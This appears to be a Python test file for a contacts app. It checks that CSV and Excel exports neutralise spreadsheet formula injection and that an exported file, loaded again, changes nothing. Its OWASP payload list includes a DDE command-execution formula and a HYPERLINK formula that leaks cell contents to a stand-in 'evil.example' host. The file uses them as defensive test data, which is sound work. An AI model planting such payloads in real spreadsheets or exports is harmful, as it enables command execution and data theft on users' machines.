"""Nothing that we write is run by a spreadsheet, and all of it can be loaded again (RF-11, GRC-11)."""

import io
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from backend.contacts.exports.latin import in_cp1252
from backend.contacts.formulas import guarded, unguarded, would_run
from backend.contacts.imports.lines import clean
from backend.contacts.models import ContactPoint, Person
from fixtures.factories import person
from tests.backend.contacts.exporting import made, table
from tests.conftest import Api, Cast

OWASP = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Cliquez")',
    '=1+2";=1+2',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "DDE",
]


@pytest.fixture
def admin(api: Callable[..., Api], cast: Cast) -> Api:
    return api(cast.admin)


@pytest.mark.parametrize("text", OWASP[:-1])
def test_what_would_run_gets_an_apostrophe(text: str) -> None:
    assert would_run(text)
    assert guarded(text) == f"'{text}"
    assert not would_run(guarded(text))


@given(st.text())
def test_a_guard_is_always_taken_off_again(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not would_run(guarded(text))


@given(st.text())
def test_a_character_that_is_replaced_makes_no_formula(text: str) -> None:
    plain = in_cp1252(text)
    plain.encode("cp1252")
    assert not would_run(guarded(plain))


@pytest.mark.django_db
@pytest.mark.parametrize("format", ["csv", "outlook"])
@pytest.mark.parametrize("text", OWASP)
def test_no_cell_of_a_csv_begins_like_a_formula(admin: Api, format: str, text: str) -> None:
    Person.objects.filter(pk=person().pk).update(family_name=text)
    for encoding, read_as in (("utf-8", "utf-8-sig"), ("cp1252", "cp1252")):
        _, content = made(admin, format, options={"encoding": encoding})
        assert not any(would_run(cell) for row in table(content, read_as) for cell in row)


@pytest.mark.django_db
@pytest.mark.parametrize("text", OWASP)
def test_every_cell_of_a_workbook_is_text(admin: Api, text: str) -> None:
    Person.objects.filter(pk=person().pk).update(family_name=text, given_name="http://evil.example")
    _, content = made(admin, columns=["family_name", "given_name"])
    cells = load_workbook(io.BytesIO(content)).worksheets[0][2]
    assert [cell.data_type for cell in cells] == ["s", "s"]
    assert all(cell.hyperlink is None for cell in cells)
    assert not str(cells[0].value).startswith("=")


def _outcomes(admin: Api, upload: Any, content: bytes, name: str) -> dict[str, int]:
    answer = upload(content, name)
    assert answer.status_code == 201, answer.content
    counts = answer.json()["counts"]
    return {key: counts[key] for key in ("create", "update", "unchanged", "refused")}


LOADED = [
    *("civility", "title", "given_name", "family_name", "birth_date", "contact_type", "function", "service"),
    *("organisation", "email", "other_emails", "phone", "other_phones", "mobile", "fax", "web", "social"),
    *("address", "postal_code", "city", "country", "note"),
]


def _base() -> int:
    helene = person(
        civility="Mme",
        organisation="Radio Zéphyr",
        function="=Cheffe",
        emails=("helene@zephyr.example", "h.lefevre@zephyr.example"),
        phones=("01 99 00 12 34", "+32 2 555 12 12", "01 99 00 12 35"),
        birth_date="1971-03-09",
        contact_type="+Presse",
        note='-Préfère l’après-midi ; « guillemets », "droits"\n@deux',
    )
    points = [
        ("mobile", "+33639981234"),
        ("fax", "+33199001299"),
        ("address", "Bâtiment B\n12 rue de l’Orme\n75011 Paris"),
        ("web", "https://zephyr.example/helene"),
        ("social", "@helene"),
    ]
    for kind, value in points:
        ContactPoint.objects.create(person=helene, kind=kind, value=value)
    person("Jean-François", "de La Tour", organisation="L’Œuvre & Cie", emails=("jf@oeuvre.example",))
    person("", "'t Hooft", organisation="=2+3")
    person("Łukasz", "O’Neil")
    return Person.objects.count()


@pytest.mark.django_db
@pytest.mark.parametrize(("format", "name"), [("xlsx", "a.xlsx"), ("csv", "a.csv")])
def test_an_export_that_is_loaded_again_changes_nothing(
    admin: Api, upload: Any, format: str, name: str
) -> None:
    count = _base()
    _, content = made(admin, format, columns=LOADED)
    assert _outcomes(admin, upload, content, name) == {
        "create": 0,
        "update": 0,
        "unchanged": count,
        "refused": 0,
    }


_words = st.text(
    st.characters(categories=["L", "N", "P", "S", "Zs"], exclude_characters="\u200b\ufeff"), max_size=30
)


@settings(max_examples=200)
@given(_words)
def test_a_cell_is_read_back_as_it_was_kept(text: str) -> None:
    kept = clean(unguarded(" ".join(text.split())))
    if unguarded(kept) == kept:
        assert clean(guarded(kept)) == kept
